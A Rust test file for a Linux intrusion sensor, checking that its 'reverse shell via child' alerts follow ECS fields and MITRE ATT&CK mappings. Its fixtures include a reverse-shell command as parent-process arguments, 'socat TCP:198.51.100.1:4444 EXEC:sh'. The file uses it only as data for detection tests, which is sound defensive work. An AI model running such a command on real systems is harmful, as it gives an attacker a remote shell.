//! The alert document: what it says, and that it keeps to ECS.
//!
//! `data/ecs-8.17-fields.tsv` holds the fields of ECS 8.17 that the sensor writes, with their types.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a panic is how a test fails")]

mod block;
mod inherited;
mod life;
mod streams;
mod surroundings;
mod template;

use sensor::alert::{Finding, add, document, repeated};
use sensor::detect::rule::REVERSE_SHELL_VIA_CHILD;
use sensor::event::ecs::{ContainerNames, ECS_VERSION, Extras, Known, Origin, ParentProgram, ParentSource};
use sensor::event::facts::Field;
use sensor::event::stream::Stream;
use sensor::event::{
    Ancestor, Args, BootTime, Connection, Direction, Exec, Executable, Lineage, PathState, ProcessKey, Reason,
    WallOffset, WallTime,
};
use sensor_common::record::STREAMS;
use serde_json::{Value, json};
use std::collections::BTreeMap;

const CREATED: WallTime = WallTime(1_780_000_000_123_456_789);

fn origin() -> Origin {
    Origin {
        host_id: "0123456789abcdef".to_owned(),
        boot_id: "6b1a0e2c-3f43-4f6e-8f0a-0d6d5b3e3f10".to_owned(),
        host: json!({"id": "0123456789abcdef", "name": "web1", "hostname": "web1", "os": {"type": "linux", "kernel": "6.18"}}),
        offset: WallOffset::between(BootTime(0), WallTime(1_780_000_000_000_000_000)),
        hooks: "exec=tracepoint".to_owned(),
        degraded: vec!["something is not seen"],
    }
}

fn process(tgid: u32) -> ProcessKey {
    ProcessKey { tgid, start: BootTime(1_000_000_000) }
}

fn executable(path: &str) -> Executable {
    let name = path.rsplit('/').next().unwrap();
    Executable { name: name.into(), path: path.into(), state: PathState::Whole }
}

fn lineage() -> Lineage {
    let parent = Ancestor { key: process(7), uid: 0, comm: b"socat".to_vec(), exe: b"socat1".to_vec() };
    Lineage { ancestors: vec![parent], more: false }
}

fn args(words: &[&str]) -> Args {
    let copied = words.iter().map(|word| word.as_bytes().to_vec()).collect();
    Args { copied, count: u32::try_from(words.len()).unwrap(), ..Args::default() }
}

fn extras() -> Extras {
    let parent =
        ParentProgram { args: args(&["socat", "TCP:198.51.100.1:4444", "EXEC:sh"]), source: ParentSource::Exec };
    let some = |text: &str| Some(text.to_owned());
    let names = ContainerNames {
        image: some("registry.example.org/web:1"),
        name: some("web"),
        pod: some("web-7d4b9"),
        namespace: some("shop"),
    };
    Extras { user: some("www-data"), container: Some("c".repeat(64)), names, parent: Some(parent) }
}

fn connection(direction: Direction, extras: &Extras) -> Value {
    origin().connection(&connected(direction), 1, extras)
}

fn connected(direction: Direction) -> Connection {
    Connection {
        arm: 5,
        at: BootTime(2_000_999_999),
        direction,
        process: process(4242),
        tid: 4243,
        uid: 33,
        gid: 33,
        comm: b"bash".to_vec(),
        leader_comm: b"bash".to_vec(),
        executable: executable("/usr/bin/bash"),
        lineage: lineage(),
        local: "10.0.0.9:40000".parse().unwrap(),
        remote: "198.51.100.1:4444".parse().unwrap(),
        found_at_start: false,
        witness: 1,
    }
}

fn exec(words: &[&str], extras: &Extras) -> Value {
    exec_on(Default::default(), words, extras)
}

/// With these on its descriptors.
fn exec_on(streams: [Stream; STREAMS], words: &[&str], extras: &Extras) -> Value {
    origin().exec(&Exec { streams, ..execution(words) }, 2, extras)
}

fn execution(words: &[&str]) -> Exec {
    Exec {
        at: BootTime(2_013_000_001),
        process: process(4242),
        old_tid: 4242,
        uid: 33,
        gid: 33,
        euid: 0,
        loginuid: Some(1000),
        comm: b"bash".to_vec(),
        executable: executable("/usr/bin/bash"),
        args: args(words),
        lineage: lineage(),
        parent_executable: executable("/usr/bin/socat1"),
        streams: Default::default(),
        surroundings: surroundings::all(),
        reason: Reason::Armed,
        generations: 0,
        connection: None,
    }
}

/// What is looked up for an alert.
fn ancestry(known: &[Known]) -> Value {
    origin().ancestry(&execution(&["bash", "-i"]), known)
}

fn known(words: &[&str]) -> Known {
    let args = Args { truncated: true, ..args(words) };
    Known { user: Some("root".to_owned()), program: Some(ParentProgram { args, source: ParentSource::Proc }) }
}

fn alert(connection: &Value, exec: &Value) -> Value {
    document(&finding(connection, exec), CREATED)
}

fn finding<'a>(connection: &'a Value, exec: &'a Value) -> Finding<'a> {
    Finding {
        rule: &REVERSE_SHELL_VIA_CHILD,
        others: &[],
        connection: Some(connection),
        exec,
        elapsed_ms: 13,
        assumed: &[],
    }
}

fn types() -> BTreeMap<&'static str, &'static str> {
    include_str!("../data/ecs-8.17-fields.tsv").lines().map(|line| line.split_once('\t').unwrap()).collect()
}

/// What in a document is not as ECS has it.
fn faults(document: &Value) -> Vec<String> {
    let mut faults = Vec::new();
    walk(&types(), "", document, &mut faults);
    faults
}

fn walk(types: &BTreeMap<&str, &str>, path: &str, value: &Value, faults: &mut Vec<String>) {
    match value {
        _ if path == "sensor" => {}
        Value::Object(members) if members.is_empty() => faults.push(format!("{path} is empty")),
        Value::Object(members) => {
            for (name, value) in members {
                let path = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
                walk(types, &path, value, faults);
            }
        }
        Value::Array(elements) if elements.is_empty() && !path.ends_with("args") => {
            faults.push(format!("{path} is an empty list"));
        }
        Value::Array(elements) => elements.iter().for_each(|element| walk(types, path, element, faults)),
        scalar => {
            let fits = match types.get(path) {
                Some(&"date") => scalar.as_str().is_some_and(|text| text.parse::<jiff::Timestamp>().is_ok()),
                Some(&"ip") => scalar.as_str().is_some_and(|text| text.parse::<std::net::IpAddr>().is_ok()),
                Some(&"long") => scalar.is_i64() || scalar.is_u64(),
                Some(&"float") => scalar.is_number(),
                Some(&"boolean") => scalar.is_boolean(),
                Some(&("keyword" | "wildcard" | "match_only_text")) => scalar.is_string(),
                _ => false,
            };
            if !fits {
                faults.push(format!("{path}: {scalar}"));
            }
        }
    }
}

#[test]
fn the_table_catches_what_is_not_ecs() {
    let wrong = json!({"process": {"pid": "1", "nam": "x", "start": 5}, "source": {"ip": "here"}, "user": {}, "event": {"type": []}});
    assert_eq!(faults(&wrong).len(), 6);
}

#[test]
fn alerts_and_their_events_keep_to_ecs() {
    for extras in [extras(), Extras::default()] {
        for direction in [Direction::Attempted, Direction::Accepted] {
            let (connection, exec) = (connection(direction, &extras), exec(&["bash", "-i"], &extras));
            for document in [&alert(&connection, &exec), &connection, &exec] {
                assert_eq!(faults(document), [""; 0], "{document:#}");
            }
        }
    }
}

#[test]
fn an_alert_says_who_did_what_when_and_where() {
    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
    let alert = alert(&connection, &exec);
    let expected = json!({
        "@timestamp": "2026-05-28T20:26:42.013000001Z",
        "ecs": {"version": ECS_VERSION},
        "message": "bash (pid 4242, user www-data) executed \"bash -i\" 13 ms after the same process connected to 198.51.100.1:4444",
        "event": {
            "kind": "alert",
            "category": ["intrusion_detection", "network", "process"],
            "type": ["info"],
            "action": "reverse-shell",
            "severity": 47,
            "risk_score": 47,
            "module": "sensor",
            "dataset": "sensor.alert",
            "created": "2026-05-28T20:26:40.123456789Z",
            "id": alert["event"]["id"],
        },
        "rule": {
            "id": "reverse-shell-via-child",
            "name": "Potential Reverse Shell via Child",
            "version": "2",
            "description": REVERSE_SHELL_VIA_CHILD.description,
            "reference": REVERSE_SHELL_VIA_CHILD.reference,
        },
        "threat": {
            "framework": "MITRE ATT&CK",
            "tactic": {
                "id": ["TA0002", "TA0011"],
                "name": ["Execution", "Command and Control"],
                "reference": ["https://attack.mitre.org/tactics/TA0002/", "https://attack.mitre.org/tactics/TA0011/"],
            },
            "technique": {
                "id": ["T1059", "T1071"],
                "name": ["Command and Scripting Interpreter", "Application Layer Protocol"],
                "reference": ["https://attack.mitre.org/techniques/T1059/", "https://attack.mitre.org/techniques/T1071/"],
                "subtechnique": {
                    "id": ["T1059.004"],
                    "name": ["Unix Shell"],
                    "reference": ["https://attack.mitre.org/techniques/T1059/004/"],
                },
            },
        },
        "process": exec["process"],
        "user": exec["user"],
        "host": exec["host"],
        "container": {"id": "c".repeat(64), "name": "web", "image": {"name": "registry.example.org/web:1"}},
        "orchestrator": {
            "type": "kubernetes",
            "namespace": "shop",
            "resource": {"type": "pod", "name": "web-7d4b9"},
        },
        "source": {"ip": "10.0.0.9", "port": 40000},
        "destination": {"ip": "198.51.100.1", "port": 4444},
        "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
        "related": {"ip": ["10.0.0.9", "198.51.100.1"], "user": ["www-data"]},
        "observer": {"type": "sensor", "version": env!("CARGO_PKG_VERSION")},
        "sensor": {
            "matched_rules": ["reverse-shell-via-child"],
            "severity": "medium",
            "elapsed_ms": 13,
            "sequence": [connection, exec],
            "ancestors": exec["sensor"]["ancestors"],
            "file": {"inode": "77", "device": "8:1", "uid": "0", "gid": "5", "mode": "4755", "removed": true},
            "environment_truncated": true,
            "hooks": exec["sensor"]["hooks"],
            "degraded": exec["sensor"]["degraded"],
        },
    });
    assert_eq!(alert, expected);
    assert_eq!(alert["event"]["id"].as_str().unwrap().len(), 32);
}

#[test]
fn an_accepted_connection_comes_from_the_peer() {
    let extras = extras();
    let alert = alert(&connection(Direction::Accepted, &extras), &exec(&["bash", "-i"], &extras));
    assert_eq!(alert["source"], json!({"ip": "198.51.100.1", "port": 4444}));
    assert_eq!(alert["destination"], json!({"ip": "10.0.0.9", "port": 40000}));
    assert_eq!(alert["network"]["direction"], json!("ingress"));
    let message = alert["message"].as_str().unwrap();
    assert!(
        message
            .ends_with("13 ms after the same process accepted a connection from 198.51.100.1:4444 on 10.0.0.9:40000")
    );
}

#[test]
fn what_is_not_known_is_absent() {
    let (connection, exec) = (json!({"@timestamp": 1000}), json!({"@timestamp": 1013}));
    let alert = alert(&connection, &exec);
    assert_eq!(faults(&alert), [""; 0], "{alert:#}");
    assert_eq!(alert["@timestamp"], json!("1970-01-01T00:00:01.013000000Z"));
    for name in ["process", "user", "host", "container", "source", "destination", "network"] {
        assert!(alert.get(name).is_none(), "{name}");
    }
    let message = "a process executed a shell 13 ms after the same process connected to an unknown address";
    assert_eq!(alert["message"], json!(message));
}

#[test]
fn the_id_is_the_same_for_the_same_events_and_no_others() {
    let (first, second) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
    let id = |connection: &Value, exec: &Value, created| {
        document(&finding(connection, exec), created)["event"]["id"].as_str().unwrap().to_owned()
    };
    let one = id(&first, &second, CREATED);
    assert_eq!(one, id(&first, &second, WallTime(0)));
    assert_ne!(one, id(&second, &first, CREATED));
    let (bare, other) = (json!({"@timestamp": 1}), json!({"@timestamp": 2}));
    assert_eq!(id(&bare, &other, CREATED), id(&bare, &other, CREATED));
    assert_ne!(id(&bare, &other, CREATED), id(&bare, &bare, CREATED));
}

#[test]
fn documents_with_dotted_keys_give_the_same_alert() {
    let nested = alert(
        &json!({"@timestamp": 1, "event": {"action": "connection_accepted", "id": "c"}, "source": {"ip": "198.51.100.1", "port": 1}, "destination": {"ip": "10.0.0.9", "port": 2}}),
        &json!({"@timestamp": 2, "event": {"id": "e"}, "process": {"name": "sh", "pid": 5, "args": ["sh", "-i"], "parent": {"name": "nc"}}, "user": {"name": "u"}}),
    );
    let dotted = alert(
        &json!({"@timestamp": 1, "event.action": "connection_accepted", "event.id": "c", "source.ip": "198.51.100.1", "source.port": 1, "destination": {"ip": "10.0.0.9"}, "destination.port": 2}),
        &json!({"@timestamp": 2, "event.id": "e", "process.name": "sh", "process": {"pid": 5, "args": ["sh", "-i"]}, "process.parent.name": "nc", "user.name": "u"}),
    );
    for name in ["event", "message", "process", "user", "source", "destination", "related"] {
        assert_eq!(nested[name], dotted[name], "{name}");
    }
}

#[test]
fn arguments_that_had_to_be_assumed_are_named() {
    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash"], &extras()));
    let finding = Finding { assumed: &[Field::Args], ..finding(&connection, &exec) };
    let alert = document(&finding, CREATED);
    assert_eq!(alert["sensor"]["assumed"], json!(["process.args"]));
    let message = alert["message"].as_str().unwrap();
    assert!(message.ends_with("; some of the arguments could not be searched and are taken as matching"));
    assert_eq!(faults(&alert), [""; 0]);
}

#[test]
fn what_was_looked_up_has_its_way_over_what_the_events_say() {
    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
    let mut alert = alert(&connection, &exec);
    alert["sensor"]["escaped"] = json!(["process.args"]);
    let mut evidence = ancestry(&[known(&["socat", "-"])]);
    evidence["sensor"]["escaped"] = json!(["sensor.ancestors.args"]);
    add(&mut alert, evidence);
    let expected = json!([{
        "pid": 7,
        "entity_id": exec["process"]["parent"]["entity_id"],
        "name": "socat1",
        "comm": "socat",
        "executable": "/usr/bin/socat1",
        "start": exec["process"]["parent"]["start"],
        "user": {"id": "0", "name": "root"},
        "args": ["socat", "-"],
        "args_count": 2,
        "command_line": "socat -",
        "args_source": "proc",
        "args_truncated": true,
    }]);
    assert_eq!(alert["sensor"]["ancestors"], expected);
    assert_eq!(alert["sensor"]["escaped"], json!(["sensor.ancestors.args", "process.args"]));
    assert_eq!(alert["sensor"]["sequence"], json!([connection, exec]));
    // Without a look there are the kernel's facts, and what is no alert stays as it is.
    assert_eq!(ancestry(&[])["sensor"]["ancestors"], exec["sensor"]["ancestors"]);
    let mut none = json!([]);
    add(&mut none, ancestry(&[]));
    assert_eq!(none, json!([]));
}

#[test]
fn an_alert_that_stands_for_several_says_for_how_many() {
    let (connection, exec) = (connection(Direction::Attempted, &extras()), exec(&["bash", "-i"], &extras()));
    let [mut one, mut many] = [(); 2].map(|()| alert(&connection, &exec));
    let message = one["message"].as_str().unwrap().to_owned();
    repeated(&mut one, 1, CREATED, CREATED);
    let (start, end) = ("2026-05-28T20:26:40.123456789Z", "2026-05-28T20:26:41.123456789Z");
    assert_eq!(one["sensor"]["repeats"], json!({"count": 1, "start": start, "end": start}));
    assert_eq!(one["message"], json!(message));
    repeated(&mut many, 17, CREATED, WallTime(CREATED.0 + 1_000_000_000));
    assert_eq!(many["sensor"]["repeats"], json!({"count": 17, "start": start, "end": end}));
    assert_eq!(many["message"], json!(format!("{message}; the last of 17 times since {start}")));
    assert_eq!(faults(&many), [""; 0]);
}

#[test]
fn an_assumed_connection_is_said_to_be_one() {
    let extras = extras();
    let exec = exec(&["bash", "-i"], &extras);
    let connection = json!({});
    let alert = document(&Finding { connection: None, ..finding(&connection, &exec) }, CREATED);
    assert_eq!(alert["sensor"]["assumed"], json!(["connection"]));
    assert_eq!(alert["sensor"]["sequence"], json!([exec]));
    assert!(alert["sensor"].get("elapsed_ms").is_none() && alert.get("destination").is_none());
    assert!(alert["message"].as_str().unwrap().contains("is assumed"), "{}", alert["message"]);
}
